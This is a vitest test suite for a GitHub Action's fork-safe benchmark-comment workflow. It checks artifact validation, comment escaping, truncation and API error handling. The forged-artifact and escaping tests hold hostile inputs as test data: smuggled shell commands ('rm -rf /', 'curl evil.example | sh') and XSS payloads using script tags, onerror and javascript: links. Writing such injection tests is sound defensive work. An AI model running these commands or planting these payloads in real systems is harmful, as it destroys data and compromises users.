// The fork-safe two-step, end to end with the bundled action: a fork's pull_request run (read-only
// token) measures and leaves report.json + pr.json but never calls a write endpoint; the trusted
// workflow_run step (mode: comment) validates that artifact, checks the PR and its head through
// the REST API and updates the one sticky comment (found on page 2 of 150 comments), leaving
// other users' comments alone. Forged or malformed artifacts, oversized reports and API errors
// (403, 404, 429 with retry-after) are covered too. Every request is checked against GitHub's spec.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startGitHubServer, secondaryRateLimitFault, type GitHubServer, type RecordedRequest } from '../support/github-server';
import { runAction, newWorkspace, type ActionRun } from '../support/action-runner';
import { seedForkPull, workflowRunEvent, type ForkPull } from '../support/github-events';
import { AMQP_URL, MANAGEMENT_URL } from '../support/broker';

const TOKEN = 'ghs_perfgatewritetoken';
const READ_ONLY = 'ghs_perfgatereadonly';
const REPO = 'Codertocat/Hello-World';
const MARKER = '<!-- rabbitmq-perf-gate:rabbitmq-perf-gate -->';
const fast = { scenarios: 'smoke', repetitions: '5', duration: '1', warmup: '0.5', 'broker-url': AMQP_URL, 'management-url': MANAGEMENT_URL };
const noStack = (text: string) => expect(text).not.toMatch(/\n\s+at .+\(.*:\d+:\d+\)/);
const writes = (gh: GitHubServer) => gh.requests.filter((r) => r.method !== 'GET');

let gh: GitHubServer;
let fork: ForkPull;
let oursId: number;
const trusted = newWorkspace(); // the default-branch checkout of the workflow_run job
const forkWorkspace = newWorkspace(); // the fork's pull_request job
const forkReportDir = join(forkWorkspace, 'rabbitmq-perf-gate-report');
/** The two measuring runs every test builds on, made once: the default branch's refresh, then the
 *  fork's run with its read-only token (with the comments before it and its writes after it). */
let refreshRun: ActionRun;
let forkRun: { r: ActionRun; before: string[]; after: string[]; writes: RecordedRequest[] };

beforeAll(async () => {
  gh = await startGitHubServer({ token: TOKEN, repo: REPO });
  gh.addToken(READ_ONLY, { readOnly: true });
  fork = seedForkPull(gh, REPO, { number: 2 });
  for (let i = 0; i < 120; i++) gh.state.addComment(REPO, 2, { body: `review note ${i}`, user: i % 2 ? 'alice' : 'bob' });
  oursId = gh.state.addComment(REPO, 2, { body: `${MARKER}\nold result` }).id;
  gh.state.addComment(REPO, 2, { body: `quoting the bot: ${MARKER} haha`, user: 'mallory' });
  for (let i = 0; i < 28; i++) gh.state.addComment(REPO, 2, { body: `later note ${i}`, user: 'carol' });

  refreshRun = await runAction({ workspace: trusted, apiUrl: gh.url, inputs: { ...fast, mode: 'refresh', comment: 'never' } });
  cpSync(join(trusted, '.github'), join(forkWorkspace, '.github'), { recursive: true });
  const before = snapshot();
  const r = await runAction({ workspace: forkWorkspace, apiUrl: gh.url, event: fork.event, inputs: { ...fast, 'github-token': READ_ONLY } });
  forkRun = { r, before, after: snapshot(), writes: writes(gh) };
});
afterEach(() => {
  // After each test, so a request or response outside the OpenAPI spec fails the test that made it.
  expect(gh.violations).toEqual([]);
});
afterAll(async () => {
  await gh.close();
});

const commentMode = (report: string, opts: { inputs?: Record<string, string>; event?: any; eventName?: string } = {}): Promise<ActionRun> =>
  runAction({
    workspace: trusted,
    apiUrl: gh.url,
    eventName: opts.eventName ?? 'workflow_run',
    event: opts.event ?? workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo }),
    inputs: { mode: 'comment', report, 'github-token': TOKEN, ...opts.inputs },
  });
const ours = () => gh.state.comments(REPO, 2).find((c) => c.id === oursId)!;
const snapshot = () => gh.state.comments(REPO, 2).map((c) => `${c.id}:${c.body}`);

describe('fork pull request, then the workflow_run comment step', () => {
  it('a stored baseline exists on the default branch (refresh, no commit)', () => {
    const r = refreshRun;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(existsSync(join(trusted, '.github/rabbitmq-perf/baseline.json'))).toBe(true);
  });

  it('the fork run measures, writes report.json and pr.json, and makes no write call with its read-only token', () => {
    const { r, before, after } = forkRun;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(['pass', 'warn', 'inconclusive']).toContain(r.outputs.verdict);
    expect(r.stdout).toMatch(/::notice.*fork.*read-only.*mode: comment/);
    expect(forkRun.writes).toEqual([]);
    expect(after).toEqual(before);
    const pr = JSON.parse(readFileSync(join(forkReportDir, 'pr.json'), 'utf8'));
    expect(pr).toEqual({ schemaVersion: 1, tool: 'rabbitmq-perf-gate', number: 2, headSha: fork.headSha, headRepo: fork.headRepo, name: 'rabbitmq-perf-gate' });
    expect(JSON.parse(readFileSync(join(forkReportDir, 'report.json'), 'utf8')).comparisons.length).toBeGreaterThan(0);
    expect(r.summary).toContain('xychart-beta');
  });

  it('mode: comment posts it: our comment (page 2 of 151) is updated in place, nobody else’s is touched', async () => {
    const others = snapshot().filter((s) => !s.startsWith(`${oursId}:`));
    const n = gh.requests.length;
    const r = await commentMode(join(forkReportDir, 'report.json'));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const made = gh.requests.slice(n);
    expect(made.some((q) => q.operationId === 'issues/list-comments' && q.query.page === '2')).toBe(true);
    expect(made.some((q) => q.operationId === 'pulls/get')).toBe(true);
    expect(made.filter((q) => q.method !== 'GET').map((q) => q.operationId)).toEqual(['issues/update-comment']);
    const body = ours().body;
    expect(body.startsWith(MARKER)).toBe(true);
    expect(body).toMatch(/^## (✅|⚠️|❔|❌) rabbitmq-perf-gate: /m);
    expect(body).toContain('| Scenario | Metric | Baseline | Now | Δ [90 % CI] | n | Answer |');
    expect(body).toMatch(/\| 5\+5 \|/);
    expect(body).toContain('**Decided by:**');
    expect(body).toContain('**Runner fingerprint:**');
    expect(body).toMatch(/```mermaid\nxychart-beta\n {2}title "one_fast consumed, median msg\/s"\n {2}x-axis \["\d\d-\d\d", "this run"\]/);
    expect(body).toContain('(https://github.com/Codertocat/Hello-World/actions/runs/987654321)');
    expect(snapshot().filter((s) => !s.startsWith(`${oursId}:`))).toEqual(others);
    expect(r.outputs['comment-url']).toContain(`#issuecomment-${oursId}`);
    expect(r.summary).toContain('| Scenario | Metric |');
  });

  it('a re-run, with GitHub linking the run to the PR, updates the same comment', async () => {
    const count = () => gh.state.comments(REPO, 2).filter((c) => c.body.startsWith(MARKER)).length;
    const r = await commentMode(join(forkReportDir, 'report.json'), { event: workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, pullRequests: [2] }) });
    expect(r.code, r.stdout).toBe(0);
    expect(count()).toBe(1);
    expect(r.outputs['comment-url']).toContain(`#issuecomment-${oursId}`);
  });

  it('user text from the report is escaped: no raw HTML, no mentions, no links', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'perf-gate-evil-'));
    const report = JSON.parse(readFileSync(join(forkReportDir, 'report.json'), 'utf8'));
    report.targets[0].label = '<script>alert(1)</script> @octo-org/admins [x](javascript:alert(1))';
    report.comparisons[0].unit = '<img src=x onerror=alert(1)>';
    report.decidedBy = '@Codertocat please merge';
    writeFileSync(join(dir, 'report.json'), JSON.stringify(report));
    cpSync(join(forkReportDir, 'pr.json'), join(dir, 'pr.json'));
    const r = await commentMode(join(dir, 'report.json'));
    expect(r.code, r.stdout).toBe(0);
    const body = ours().body;
    expect(body).not.toMatch(/<script|<img|\]\(javascript/);
    expect(body).toContain('&lt;script&gt;');
    expect(body).not.toMatch(/@(Codertocat|octo-org)/);
    await commentMode(join(forkReportDir, 'report.json')); // restore the genuine comment
  });
});

describe('forged or malformed artifacts: one clear error, no comment', () => {
  const cases: [string, (report: any, pr: any) => string | undefined, RegExp][] = [
    ['report.json is not JSON', () => '{"schemaVersion": 1, oops', /the report file is not valid JSON/],
    ['a newer schema version', (r) => void (r.schemaVersion = 99), /the report file has schema version 99, newer than this version of rabbitmq-perf-gate understands/],
    ['a field of the wrong type', (r) => void (r.comparisons[0].ratio = '1.5; rm -rf /'), /\/comparisons\/0\/ratio must be number,null/],
    ['a required field missing', (r) => void delete r.verdict, /must have required property 'verdict'/],
    ['not our tool', (r) => void (r.tool.name = 'evil-bench'), /\/tool\/name must be equal to constant/],
    ['pr.json number is not a number', (_, p) => void (p.number = '2; curl evil.example | sh'), /pr\.json is not a valid.*"number" is not a pull request number/],
    ['pr.json names a PR that does not exist', (_, p) => void (p.number = 999), /refusing to post this report: pull request Codertocat\/Hello-World#999 from pr\.json does not exist/],
    ['pr.json names another commit than the run built', (_, p) => void (p.headSha = 'a'.repeat(40)), /refusing to post this report: pr\.json names commit a{40}, but the run that uploaded it built/],
    [
      'pr.json names another PR of the base repository',
      (_, p) => void (p.number = 3),
      /refusing to post this report: Codertocat\/Hello-World#3 comes from Codertocat\/Hello-World, but the run that uploaded the report built forker\/Hello-World/,
    ],
    [
      'another PR with the same head commit, from another repository',
      (_, p) => void (p.number = 6),
      /refusing to post this report: Codertocat\/Hello-World#6 comes from mallory\/Hello-World, but the run that uploaded the report built forker\/Hello-World/,
    ],
    [
      "the same, with pr.json's head repository edited to match it",
      (_, p) => void Object.assign(p, { number: 6, headRepo: 'mallory/Hello-World' }),
      /refusing to post this report: pr\.json names head repository mallory\/Hello-World, but the run that uploaded it built forker\/Hello-World/,
    ],
    [
      'another PR with the same head commit, from another branch of the fork',
      (_, p) => void (p.number = 5),
      /refusing to post this report: Codertocat\/Hello-World#5 is branch patch-2, but the run that uploaded the report built branch patch-1/,
    ],
    [
      'a PR number GitHub does not link to the run',
      (_, p) => void Object.assign(p, { number: 3, event: workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, pullRequests: [2] }) }),
      /refusing to post this report: pr\.json names #3, but GitHub links the run that uploaded it to #2/,
    ],
    [
      'an event from a push, not a pull request',
      (_, p) => void (p.event = workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, event: 'push' })),
      /refusing to post this report: the run that uploaded it was triggered by push, not by a pull request/,
    ],
    ['not a workflow_run event at all', (_, p) => void (p.eventName = 'pull_request'), /mode: comment runs only on a workflow_run event \(this is pull_request\)/],
    ['another gate name', (_, p) => void (p.name = 'other-gate'), /the report is from gate "other-gate" but this step posts gate "rabbitmq-perf-gate"/],
    ['pr.json missing', (_, p) => void (p.missing = true), /pr\.json is not a valid rabbitmq-perf-gate PR file: missing/],
  ];
  beforeAll(() => {
    gh.state.addPull(REPO, { head: 'other-work', number: 3 });
    // Open PRs whose head is the very commit the fork's run built: another branch of the fork and another repository.
    gh.state.requireRepo(fork.headRepo).refs.set('heads/patch-2', fork.headSha);
    gh.state.newPull(gh.state.requireRepo(REPO), gh.state.requireRepo(fork.headRepo), { head: 'patch-2', base: 'main', title: 'Same commit, other branch', number: 5 });
    gh.state.addRepo('mallory/Hello-World', { ownerType: 'User' });
    gh.state.requireRepo('mallory/Hello-World').refs.set('heads/patch-1', fork.headSha);
    gh.state.newPull(gh.state.requireRepo(REPO), gh.state.requireRepo('mallory/Hello-World'), { head: 'patch-1', base: 'main', title: 'Same commit, other repository', number: 6 });
  });
  for (const [what, mutate, message] of cases) {
    it(what, async () => {
      const dir = mkdtempSync(join(tmpdir(), 'perf-gate-forged-'));
      const report = JSON.parse(readFileSync(join(forkReportDir, 'report.json'), 'utf8'));
      const pr = JSON.parse(readFileSync(join(forkReportDir, 'pr.json'), 'utf8'));
      const text = mutate(report, pr);
      writeFileSync(join(dir, 'report.json'), text ?? JSON.stringify(report));
      const { event, eventName, missing } = pr;
      delete pr.event;
      delete pr.eventName;
      if (!missing) writeFileSync(join(dir, 'pr.json'), JSON.stringify(pr));
      const before = snapshot();
      const writesBefore = writes(gh).length;
      const r = await commentMode(join(dir, 'report.json'), { event, eventName });
      expect(r.code, r.stdout).toBe(1);
      const errors = r.stdout.split('\n').filter((l) => l.startsWith('::error'));
      expect(errors).toHaveLength(1);
      expect(errors[0]).toMatch(message);
      expect(errors[0]).toContain('Fix:');
      noStack(r.stdout + r.stderr);
      expect(snapshot()).toEqual(before);
      expect(writes(gh).length).toBe(writesBefore);
    });
  }

  it('a genuine report whose PR has moved on: a warning, no stale comment', async () => {
    const before = snapshot();
    const moved = gh.state.writeFiles(fork.headRepo, 'patch-1', { 'src/change.txt': 'again\n' }, 'More');
    try {
      const r = await commentMode(join(forkReportDir, 'report.json'));
      expect(r.code, r.stdout).toBe(0);
      expect(r.stdout).toMatch(new RegExp(`::warning.*#2 has moved on to ${moved.slice(0, 7)}.*not posting a stale result`));
      expect(snapshot()).toEqual(before);
    } finally {
      gh.state.requireRepo(fork.headRepo).refs.set('heads/patch-1', fork.headSha);
    }
  });
});

describe('an oversized report', () => {
  it('the comment is truncated under 65,536 characters with a pointer; the job summary has every row', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'perf-gate-big-'));
    const report = JSON.parse(readFileSync(join(forkReportDir, 'report.json'), 'utf8'));
    const copies = 60;
    const [scenario] = report.scenarios;
    const base = report.comparisons;
    report.scenarios = Array.from({ length: copies }, (_, k) => ({ ...scenario, id: `one_fast_${k}` }));
    report.comparisons = report.scenarios.flatMap((s: any) => base.map((c: any) => ({ ...c, scenario: s.id })));
    writeFileSync(join(dir, 'report.json'), JSON.stringify(report));
    cpSync(join(forkReportDir, 'pr.json'), join(dir, 'pr.json'));
    const r = await commentMode(join(dir, 'report.json'));
    expect(r.code, r.stdout).toBe(0);
    const body = ours().body;
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain('truncated to fit a comment; the full table is in the job summary');
    expect(body).toContain('(https://github.com/Codertocat/Hello-World/actions/runs/987654321)');
    expect(body.split('<details>').length).toBe(body.split('</details>').length);
    const rows = (text: string) => text.split('\n').filter((l) => /^\| one\\_fast\\_\d+ /.test(l)).length;
    expect(rows(r.summary)).toBe(copies * base.length);
    expect(rows(body)).toBeLessThan(copies * base.length);
    expect(r.summary.length).toBeGreaterThan(65_536);
    await commentMode(join(forkReportDir, 'report.json'));
  });
});

describe('GitHub API errors: a clear warning, the verdict unchanged', () => {
  const verdictOf = () => JSON.parse(readFileSync(join(forkReportDir, 'report.json'), 'utf8')).verdict;

  it('403 on the comment update', async () => {
    gh.fail({
      method: 'PATCH',
      path: /\/issues\/comments\/\d+$/,
      status: 403,
      body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest', status: '403' },
    });
    const before = ours().body;
    const r = await commentMode(join(forkReportDir, 'report.json'));
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs.verdict).toBe(verdictOf());
    expect(r.stdout).toMatch(
      /::warning title=rabbitmq-perf-gate comment::.*could not comment on pull request #2: GitHub answered 403 \(Resource not accessible by integration\).*Fix: give the job `permissions: pull-requests: write`/,
    );
    expect(ours().body).toBe(before);
    noStack(r.stdout + r.stderr);
  });

  it('404 listing the comments', async () => {
    gh.fail({ method: 'GET', path: /\/issues\/2\/comments$/, status: 404 });
    const r = await commentMode(join(forkReportDir, 'report.json'));
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs.verdict).toBe(verdictOf());
    expect(r.stdout).toMatch(/::warning.*GitHub answered 404 \(Not Found\).*Fix: check the repository, pull request or branch exist/);
  });

  it('429 with retry-after once: waited, retried, updated', async () => {
    gh.fail(secondaryRateLimitFault({ method: 'PATCH', path: /\/issues\/comments\/\d+$/, retryAfter: 1 }));
    const n = gh.requests.length;
    const started = Date.now();
    const r = await commentMode(join(forkReportDir, 'report.json'));
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).not.toContain('::warning');
    const patches = gh.requests.slice(n).filter((q) => q.method === 'PATCH');
    expect(patches.map((q) => q.status)).toEqual([429, 200]);
    expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
  });

  it('429 that never lets up: a warning after the retries', async () => {
    gh.fail(secondaryRateLimitFault({ method: 'PATCH', path: /\/issues\/comments\/\d+$/, retryAfter: 1, times: 4 }));
    const r = await commentMode(join(forkReportDir, 'report.json'));
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs.verdict).toBe(verdictOf());
    expect(r.stdout).toMatch(/::warning.*GitHub answered 429.*Fix: GitHub rate-limited the token \(retry-after: 1 s\) and 3 retries did not get through/);
  }, 30_000);
});
